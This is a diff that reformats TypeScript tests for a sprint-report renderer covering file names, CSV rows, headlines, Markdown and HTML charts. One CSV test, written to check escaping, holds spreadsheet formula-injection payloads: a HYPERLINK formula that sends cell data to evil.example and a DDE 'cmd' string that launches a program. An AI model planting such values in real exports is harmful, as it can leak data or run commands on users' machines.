@@ -6,7 +6,19 @@ import { contentTypeOf, headline, renderReport } from '../src/render/index.ts';
 import { niceTicks } from '../src/render/charts.ts';
 import { date, hours, percent, points, reason } from '../src/render/format.ts';
 import {
-  capacity, closedSprint, emptyHistory, futureSprint, GREEK_CYRILLIC, history, longSprint, MODELS, SCRIPT, sprintRef, teamVelocity, UNICODE, velocity,
+  capacity,
+  closedSprint,
+  emptyHistory,
+  futureSprint,
+  GREEK_CYRILLIC,
+  history,
+  longSprint,
+  MODELS,
+  SCRIPT,
+  sprintRef,
+  teamVelocity,
+  UNICODE,
+  velocity,
 } from './report-models.ts';
 
 const render = async (model: ReportModel, format: ReportFormat) => (await renderReport(model, format)).content.toString('utf8');
@@ -32,7 +44,10 @@ describe('file names and content types', () => {
       [teamVelocity, 'velocity-report-atlas'],
       [capacity, 'capacity-report-atlas-team-2026-01-01-2026-03-31'],
       [history, 'history-report-atlas-team-2026-01-01-2026-03-31'],
-      [{ ...closedSprint, board: { id: 'b-9', name: 'Équipe Ünïcode / Böard #2' }, sprint: { ...closedSprint.sprint, id: 's-7', name: '日本' } }, 'sprint-report-equipe-unicode-board-2-s-7'],
+      [
+        { ...closedSprint, board: { id: 'b-9', name: 'Équipe Ünïcode / Böard #2' }, sprint: { ...closedSprint.sprint, id: 's-7', name: '日本' } },
+        'sprint-report-equipe-unicode-board-2-s-7',
+      ],
     ];
     const extensions: Record<ReportFormat, string> = { JSON: 'json', CSV: 'csv', MARKDOWN: 'md', HTML: 'html', PDF: 'pdf' };
     for (const [model, slug] of expected) {
@@ -44,7 +59,11 @@ describe('file names and content types', () => {
       }
     }
     expect([contentTypeOf('JSON'), contentTypeOf('CSV'), contentTypeOf('MARKDOWN'), contentTypeOf('HTML'), contentTypeOf('PDF')]).toEqual([
-      'application/json; charset=utf-8', 'text/csv; charset=utf-8', 'text/markdown; charset=utf-8', 'text/html; charset=utf-8', 'application/pdf',
+      'application/json; charset=utf-8',
+      'text/csv; charset=utf-8',
+      'text/markdown; charset=utf-8',
+      'text/html; charset=utf-8',
+      'application/pdf',
     ]);
   });
 });
@@ -90,7 +109,10 @@ describe('CSV', () => {
   });
 
   test('a summary or name that starts like a formula is written as text, so a spreadsheet does not run it', async () => {
-    const hostile = { ...closedSprint, issues: [{ ...closedSprint.issues[0], summary: '=HYPERLINK("http://evil.example/"&A1,"click")', assignee: "+cmd|' /C calc'!A0" }] };
+    const hostile = {
+      ...closedSprint,
+      issues: [{ ...closedSprint.issues[0], summary: '=HYPERLINK("http://evil.example/"&A1,"click")', assignee: "+cmd|' /C calc'!A0" }],
+    };
     const [record] = await rows(hostile);
     expect(record.summary).toBe(`'=HYPERLINK("http://evil.example/"&A1,"click")`);
     expect(record.assignee).toBe("'+cmd|' /C calc'!A0");
@@ -103,8 +125,16 @@ describe('CSV', () => {
     const records = await rows(velocity);
     expect(records).toHaveLength(3);
     expect(records[2]).toEqual({
-      board: 'Atlas Board', sprint: 'Atlas Sprint 3', start: sprintRef(3).startDate, end: sprintRef(3).endDate, committed: '42.5', completed: '34',
-      say_do_ratio: String(34 / 42.5), scope_change_rate: '0.125', rolling_average_3: String(61 / 3), rolling_average_5: '',
+      board: 'Atlas Board',
+      sprint: 'Atlas Sprint 3',
+      start: sprintRef(3).startDate,
+      end: sprintRef(3).endDate,
+      committed: '42.5',
+      completed: '34',
+      say_do_ratio: String(34 / 42.5),
+      scope_change_rate: '0.125',
+      rolling_average_3: String(61 / 3),
+      rolling_average_5: '',
     });
     expect(records[1].say_do_ratio).toBe('');
   });
@@ -112,7 +142,18 @@ describe('CSV', () => {
   test('CAPACITY: one row per sprint and discipline', async () => {
     const records = await rows(capacity);
     expect(records).toHaveLength(6);
-    expect(Object.keys(records[0])).toEqual(['sprint', 'board', 'start', 'discipline', 'members', 'available_days', 'capacity_points', 'committed_points', 'completed_points', 'utilisation']);
+    expect(Object.keys(records[0])).toEqual([
+      'sprint',
+      'board',
+      'start',
+      'discipline',
+      'members',
+      'available_days',
+      'capacity_points',
+      'committed_points',
+      'completed_points',
+      'utilisation',
+    ]);
     expect(records[1]).toMatchObject({ sprint: 'Atlas Sprint 3', discipline: 'Frontend', capacity_points: '15.2', utilisation: String(21.5 / 15.2) });
     expect(records[5]).toMatchObject({ sprint: 'Atlas Sprint 4', discipline: 'QA', completed_points: '', utilisation: '' });
   });
@@ -123,8 +164,14 @@ describe('CSV', () => {
     expect(records.map((r) => r.discipline)).toEqual(['All', 'Backend', 'Frontend', 'All', 'Backend', 'Frontend', 'All', 'Backend', 'Frontend']);
     const sprint = history.sprints[2];
     expect(records[6]).toMatchObject({
-      sprint: 'Atlas Sprint 3', committed: '33', completed: String(sprint.completedPoints), say_do_ratio: String(sprint.sayDoRatio),
-      scope_change_rate: String(sprint.scopeChangeRate), carried_out_issues: '3', carried_out_points: '7.5', cycle_time_p50: '30',
+      sprint: 'Atlas Sprint 3',
+      committed: '33',
+      completed: String(sprint.completedPoints),
+      say_do_ratio: String(sprint.sayDoRatio),
+      scope_change_rate: String(sprint.scopeChangeRate),
+      carried_out_issues: '3',
+      carried_out_points: '7.5',
+      cycle_time_p50: '30',
     });
     expect(records[7]).toMatchObject({ discipline: 'Backend', committed: '13', scope_change_rate: '', carried_out_points: '' });
     expect(records[3]).toMatchObject({ say_do_ratio: '', cycle_time_p50: '20' });
@@ -147,7 +194,11 @@ describe('headline', () => {
       { label: 'Cycle time p50', value: hours(f.cycleTime!.p50) },
       { label: 'Capacity utilisation', value: percent(closedSprint.capacity!.utilisation) },
     ]);
-    expect(headline(closedSprint).slice(0, 3).map((h) => h.value)).toEqual(['42.5', '34', '80 %']);
+    expect(
+      headline(closedSprint)
+        .slice(0, 3)
+        .map((h) => h.value),
+    ).toEqual(['42.5', '34', '80 %']);
   });
 
   test('a future sprint says it has not started; nulls show as a dash', () => {
@@ -160,11 +211,16 @@ describe('headline', () => {
       { label: 'Planned in the queue (points)', value: '13' },
       { label: 'Planned utilisation', value: '29 %' },
     ]);
-    expect(headline({ ...futureSprint, queue: null }).map((h) => h.label)).toEqual(['State', 'Issues in the sprint', 'In the sprint (points)', 'Capacity (points)']);
+    expect(headline({ ...futureSprint, queue: null }).map((h) => h.label)).toEqual([
+      'State',
+      'Issues in the sprint',
+      'In the sprint (points)',
+      'Capacity (points)',
+    ]);
     expect(headline(emptyHistory).map((h) => h.value)).toEqual(['0', '—', '—', '—', '—', '—']);
   });
 
-  test('VELOCITY names the board when there are several, in each board\'s unit', () => {
+  test("VELOCITY names the board when there are several, in each board's unit", () => {
     expect(headline(velocity)[0]).toEqual({ label: 'Sprints', value: '3' });
     expect(headline(teamVelocity).map((h) => h.label)).toContain('Atlas Ops: Average completed (issues)');
     expect(headline(capacity)[1]).toEqual({ label: 'Backend', value: '26 of 43.2 points committed (60 %), 11 completed (42 %)' });
@@ -189,7 +245,10 @@ describe('Markdown', () => {
 
   test('an issue added after the start and re-estimated shows JIRA\'s "2 → 1"; others their estimate at the end', async () => {
     const added = closedSprint.issues.find((i) => i.addedAfterStart)!;
-    const md = await render({ ...closedSprint, issues: closedSprint.issues.map((i) => (i === added ? { ...i, pointsAtJoin: 2, pointsAtEnd: 1 } : i)) }, 'MARKDOWN');
+    const md = await render(
+      { ...closedSprint, issues: closedSprint.issues.map((i) => (i === added ? { ...i, pointsAtJoin: 2, pointsAtEnd: 1 } : i)) },
+      'MARKDOWN',
+    );
     expect(md).toMatch(new RegExp(`\\| ${added.key} \\|.*\\| — \\| 2 → 1 \\| yes \\|`));
     // Not re-estimated: just its estimate, as before.
     expect(await render(closedSprint, 'MARKDOWN')).toMatch(new RegExp(`\\| ${added.key} \\|.*\\| — \\| 5 \\| yes \\|`));
@@ -245,7 +304,10 @@ describe('HTML', () => {
     ]);
     expect(svgs(await render(teamVelocity, 'HTML'))).toHaveLength(1);
     expect(svgs(await render(capacity, 'HTML'))).toHaveLength(1);
-    expect(svgs(await render(history, 'HTML')).map((s) => s.match(/aria-label="([^"]+)"/)![1])).toEqual(['Completed points per sprint', 'Say/do ratio per sprint']);
+    expect(svgs(await render(history, 'HTML')).map((s) => s.match(/aria-label="([^"]+)"/)![1])).toEqual([
+      'Completed points per sprint',
+      'Say/do ratio per sprint',
+    ]);
     expect(svgs(await render(emptyHistory, 'HTML'))).toHaveLength(0);
     const future = await render(futureSprint, 'HTML');
     expect(svgs(future)).toHaveLength(1);
